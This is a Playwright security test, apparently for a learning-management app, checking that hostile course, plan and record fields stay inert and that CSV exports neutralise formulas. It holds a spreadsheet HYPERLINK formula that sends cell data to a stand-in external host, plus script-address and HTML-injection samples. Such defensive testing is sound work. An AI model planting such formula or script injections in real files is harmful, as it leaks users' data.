import { readFileSync } from 'node:fs';
import {
  attack,
  catchPrints,
  expectHarmless,
  expectPlain,
  hostileHtml,
  printed,
  scriptAddress,
  writeInto
} from '../attacks';
import { watch } from '../watched';
import { expect, test } from './demoTraining';

const title = `Hostile ${attack} ladder`;
const formula = '=HYPERLINK("https://elsewhere.example/?"&A1,"Open")';
const plan = `Hostile ${attack} plan`;

/** An attack in every field, also in those that hold no text of people. */
const hostile = {
  title,
  url: 'https://learning.contoso.example/ladder',
  linkText: attack,
  summary: hostileHtml('a summary'),
  audiences: ['Admins', attack],
  platforms: [attack],
  skills: [attack],
  owner: attack,
  proof: attack,
  minutes: attack,
  notices: [attack],
  questions: `? ${attack}\n+ ${attack} right\n- ${attack} wrong`,
  id: `hostile-${attack}`,
  [attack]: attack
};

const file = [
  hostile,
  { title: 'A link that runs', url: scriptAddress },
  { title: formula, summary: '<p>@SUM(A1)</p>', url: 'https://learning.contoso.example/formula' }
];

test('hostile courses, plans and records stay words, and files hold no formulas', async ({ trainingOf }) => {
  test.setTimeout(150_000);
  const lead = await trainingOf('lead');
  const { page, panel } = lead;
  const watched = watch(page);
  await catchPrints(page);

  await test.step('imported in every field; an address that runs is not taken', async () => {
    await lead.open('?om=view:courses');
    await lead.more('MenuImport');
    await panel.getByRole('textbox').fill(JSON.stringify(file));
    await lead.button('FilePreview', panel).click();
    const refused = lead.text('ImportRowNoAddress', { value: scriptAddress });
    await expect(panel.getByText(refused)).toBeVisible();
    await lead.choose('IntakeInUse');
    await expectHarmless(page);
    await panel.getByRole('button', { name: 'Write 2 courses' }).click();
    await expect(panel.getByText(lead.text('IntakeDone'))).toBeVisible();
    await expectHarmless(page);
    await lead.closePanel();
  });

  await test.step('found, read and edited', async () => {
    await lead.open('?om=view:courses;q:ladder');
    await expectHarmless(page);
    await lead.openTitle(title);
    await expect(panel.getByText('End of a summary.')).toBeVisible();
    await expectHarmless(page);
    await lead.button('CourseEdit', panel).click();
    await expect(lead.box('FieldSummary')).toContainText('End of a summary.');
    await expectHarmless(page);
    await lead.button('Close', panel).first().click();
  });

  await test.step('an address that runs is not saved in the form either', async () => {
    await lead.button('CourseEdit', panel).click();
    await lead.box('EditAddress').fill(scriptAddress);
    await lead.button('Save', panel).click();
    await expect(panel.getByText(lead.text('EditNoAddress'))).toBeVisible();
    await lead.button('Cancel', panel).click();
    await lead.button('Discard').click();
    await expect(panel.getByText('End of a summary.')).toBeVisible();
  });

  const id = Number(/course:(\d+)/.exec(decodeURIComponent(page.url()))?.[1]);
  await test.step('written into the list past the suite, learned, and noted', async () => {
    await writeInto(page, 'OMCourses', id, {
      OMSummary: `${hostileHtml('the list')}<!-- never closed`,
      OMQuestions: `? ${attack}\n+ ${attack} right\n- ${attack} wrong`,
      OMNotices: attack
    });
    await lead.open(`?om=course:${id}`);
    await expect(panel.getByText('End of the list.')).toBeVisible();
    await lead.button('PartTake', panel).click();
    await lead.button('DeclareSubmit', panel).click();
    await panel.getByRole('radio', { name: `${attack} right` }).check();
    await lead.button('DeclareCheckShow', panel).click();
    await expectHarmless(page);
    await lead.button('DeclareGoOn', panel).click();
    await lead.choose('DeclareCertificate');
    await lead.box('DeclareLink').fill(scriptAddress);
    await lead.box('DeclareNote').fill(hostileHtml('a note'));
    await lead.button('DeclareSubmit', panel).click();
    await expect(panel.getByText(lead.text('DeclareNoAddress'))).toBeVisible();
    await lead.box('DeclareLink').fill('https://learning.contoso.example/ladder/certificate');
    await lead.button('DeclareSubmit', panel).click();
    await expect(lead.said('RecordDeclared')).toBeVisible();
    await expect(panel.getByText('Said in a note').first()).toBeVisible();
    await expectHarmless(page);
    await lead.closePanel();
  });

  await test.step('printed', async () => {
    await lead.open();
    await lead.button('MinePrint').first().click();
    const paper = await printed(page);
    expect(paper).toContain('ladder');
    expectPlain(paper);
  });

  await test.step('a plan that was written past the suite welcomes somebody', async () => {
    await writeInto(page, 'OMTrainingPlans', 0, {
      Title: plan,
      OMStatus: 'In use',
      OMWelcome: hostileHtml('a welcome'),
      OMSteps: `1 | one | action | ${attack} step\n1 | two | course ${id} | ${attack} course`
    });
    await lead.open('?om=view:plans');
    await page.getByRole('button', { name: `${lead.text('StartPlan')}: ${plan}` }).click();
    await lead.choosePerson(lead.text('PlanWho'), 'Chidi Okafor');
    await expectHarmless(page);
    await lead.button('PlanStartAndAssign', panel).click();
    await lead.button('PlanOpen', panel, { plan: 'Chidi Okafor' }).click();
    await lead.unfold('PlanWelcome');
    await expect(panel.getByText('End of a welcome.')).toBeVisible();
    await expectHarmless(page);
    await lead.button('PlanStop', panel).click();
    await expect(lead.said('PlanIsStopped', { name: 'Chidi Okafor' })).toBeVisible();
    await lead.closePanel();
  });

  await test.step('saved as files that no spreadsheet runs', async () => {
    await lead.more('MenuExport');
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      lead.button('ExportCoursesSave', panel).click()
    ]);
    const text = readFileSync(await download.path(), 'utf8');
    const cell = formula.replace(/"/g, '""');
    expect(text).toContain(`"'${cell}"`);
    expect(text).not.toContain(`"${cell}"`);
    await expectHarmless(page);
  });

  const answer = await page.reload();
  expect(answer?.headers()['content-security-policy']).toContain("script-src 'self'");
  expect(watched).toEqual({ outside: [], dialogs: [] });
});
